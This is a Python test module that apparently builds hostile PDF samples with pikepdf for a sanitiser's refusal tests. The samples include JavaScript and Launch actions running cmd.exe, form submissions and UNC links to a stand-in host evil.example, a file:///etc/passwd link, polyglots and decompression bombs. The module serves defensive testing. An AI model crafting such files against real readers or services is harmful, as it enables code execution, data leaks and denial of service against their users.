"""PDF that runs, fetches or hides something, or is not what it seems."""

import io
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from tests.pictures import drawing, saved
from tests.security.hostile.cases import refused
from tests.security.hostile.zips import docx

TEXT = b"BT /F1 12 Tf 20 20 Td (Visible text) Tj ET"


def pdf(change: Callable[[Pdf, Any], None] | None = None, **options: Any) -> bytes:
    """A PDF of one page with a line of text, which `change` gets with the page."""
    made = Pdf.new()
    made.add_blank_page(page_size=(200, 100))
    page = made.pages[0].obj
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.Resources = Dictionary(Font=Dictionary(F1=font))
    page.Contents = made.make_stream(TEXT)
    if change:
        change(made, page)
    buffer = io.BytesIO()
    made.save(buffer, **options)
    return buffer.getvalue()


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def annotated(subtype: str, **more: Any) -> bytes:
    """A PDF whose page has one annotation."""

    def change(made: Pdf, page: Any) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=[0, 0, 9, 9], **more)
        page.Annots = Array([made.make_indirect(note)])
        if subtype == "/Widget":
            made.Root.AcroForm = Dictionary(Fields=page.Annots)

    return pdf(change)


def linked(action: Dictionary) -> bytes:
    return annotated("/Link", A=action)


def in_root(key: str, value: Any) -> bytes:
    def change(made: Pdf, page: Any) -> None:
        made.Root[key] = value() if callable(value) else value

    return pdf(change)


@refused("action", "report.pdf")
def javascript_when_opened() -> bytes:
    return in_root("/OpenAction", script())


@refused("script", "report.pdf")
def javascript_by_name() -> bytes:
    names = Dictionary(Names=Array([String("a"), script()]))
    return in_root("/Names", Dictionary(JavaScript=names))


@refused("script", "report.pdf")
def javascript_in_a_link() -> bytes:
    return linked(script())


@refused("script", "report.pdf")
def javascript_of_the_file() -> bytes:
    return in_root("/AA", Dictionary(WC=script()))


@refused("script", "report.pdf")
def javascript_of_a_page() -> bytes:
    return pdf(lambda made, page: page.update({"/AA": Dictionary(O=script())}))


@refused("script", "report.pdf")
def javascript_of_a_field() -> bytes:
    return annotated("/Widget", FT=Name.Tx, T=String("f"), AA=Dictionary(K=script()))


@refused("action", "report.pdf")
def launch() -> bytes:
    return linked(Dictionary(S=Name.Launch, F=String("cmd.exe")))


@refused("action", "report.pdf")
def launch_in_an_outline() -> bytes:
    def change(made: Pdf, page: Any) -> None:
        item = made.make_indirect(
            Dictionary(Title=String("x"), A=Dictionary(S=Name.Launch, F=String("cmd.exe")))
        )
        made.Root.Outlines = Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1)

    return pdf(change)


@refused("action", "report.pdf")
def launch_as_structure() -> bytes:
    action = Dictionary(Type=Name.StructElem, P=Dictionary(), S=Name.Launch, F=String("cmd.exe"))
    return linked(action)


@refused("action", "report.pdf")
def submit_form() -> bytes:
    return linked(Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")))


@refused("action", "report.pdf")
def import_data() -> bytes:
    return linked(Dictionary(S=Name.ImportData, F=String("a.fdf")))


@refused("external", "report.pdf")
def other_file() -> bytes:
    return linked(
        Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share\\a.pdf"), D=Array([0]))
    )


@refused("external", "report.pdf")
def embedded_file() -> bytes:
    return linked(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a.pdf"))))


@refused("action", "report.pdf")
def address_when_opened() -> bytes:
    return in_root("/OpenAction", Dictionary(S=Name.URI, URI=String("https://evil.example/")))


@refused("external", "report.pdf")
def file_address() -> bytes:
    return linked(Dictionary(S=Name.URI, URI=String("file:///etc/passwd")))


@refused("external", "report.pdf")
def script_address() -> bytes:
    return linked(Dictionary(S=Name.URI, URI=String("javascript:alert(1)")))


@refused("action", "report.pdf")
def chained_actions() -> bytes:
    second = Dictionary(S=Name.URI, URI=String("https://evil.example/"))
    return linked(Dictionary(S=Name.Named, N=Name.NextPage, Next=second))


@refused("xfa", "form.pdf")
def dynamic_form() -> bytes:
    return pdf(
        lambda made, page: made.Root.update(
            {"/AcroForm": Dictionary(Fields=Array(), XFA=made.make_stream(b"<xdp/>"))}
        )
    )


@refused("media", "report.pdf")
def rich_media() -> bytes:
    return annotated("/RichMedia", RichMediaContent=Dictionary())


@refused("media", "report.pdf")
def three_dimensions() -> bytes:
    return annotated("/3D")


@refused("media", "report.pdf")
def movie() -> bytes:
    return annotated("/Movie", Movie=Dictionary(F=String("a.avi")))


@refused("media", "report.pdf")
def screen() -> bytes:
    return annotated("/Screen")


@refused("redaction", "report.pdf")
def unfinished_redaction() -> bytes:
    return annotated("/Redact")


@refused("unknown_part", "report.pdf")
def unknown_annotation() -> bytes:
    return annotated("/Surprise")


@refused("external", "report.pdf")
def content_in_another_file() -> bytes:
    def change(made: Pdf, page: Any) -> None:
        stream = made.make_stream(b"", F=String("\\\\evil.example\\a"), Subtype=Name.Form)
        page.Resources.XObject = Dictionary(X=stream)

    return pdf(change)


@refused("encrypted", "secret.pdf")
def password() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="owner", user="user"))


@refused("encrypted", "secret.pdf")
def owners_password() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=""))


@refused("polyglot", "report.pdf")
def zip_behind() -> bytes:
    return pdf() + docx()


@refused("not_accepted", "report.pdf")
def page_before() -> bytes:
    return b"<html><script>alert(1)</script></html>\n" + pdf()


@refused("damaged", "report.pdf")
def cut_off() -> bytes:
    return pdf()[:300]


@refused("damaged", "report.pdf")
def only_a_beginning() -> bytes:
    return b"%PDF-1.7\n" + b"nonsense " * 50 + b"\n%%EOF"


@refused("bomb", "report.pdf")
def packed_zeros() -> bytes:
    def change(made: Pdf, page: Any) -> None:
        packer = zlib.compressobj(9)
        block = b"\0" * 2**20
        content = b"".join(packer.compress(block) for _ in range(700)) + packer.flush()
        stream = made.make_stream(b"")
        stream.write(content, filter=Name.FlateDecode)
        page.Resources.XObject = Dictionary(X=stream)

    return pdf(change)


@refused("bomb", "report.pdf")
def endless_instructions() -> bytes:
    def change(made: Pdf, page: Any) -> None:
        packer = zlib.compressobj(9)
        block = b"0 0 m " * 200_000
        content = b"".join(packer.compress(block) for _ in range(80)) + packer.flush()
        page.Contents.write(content, filter=Name.FlateDecode)

    return pdf(change)


@refused("bomb", "report.pdf")
def huge_picture() -> bytes:
    def change(made: Pdf, page: Any) -> None:
        picture = made.make_stream(b"", Subtype=Name.Image, Width=100_000, Height=100_000)
        page.Resources.XObject = Dictionary(X=picture)

    return pdf(change)


@refused("inline_picture", "report.pdf")
def photograph_within_instructions() -> bytes:
    def change(made: Pdf, page: Any) -> None:
        photo = saved(drawing(), "JPEG")
        page.Contents = made.make_stream(
            b"BI /W 48 /H 32 /CS /RGB /BPC 8 /F /DCT ID " + photo + b" EI"
        )

    return pdf(change)


@refused("empty", "report.pdf")
def no_pages() -> bytes:
    made = Pdf.new()
    buffer = io.BytesIO()
    made.save(buffer)
    return buffer.getvalue()
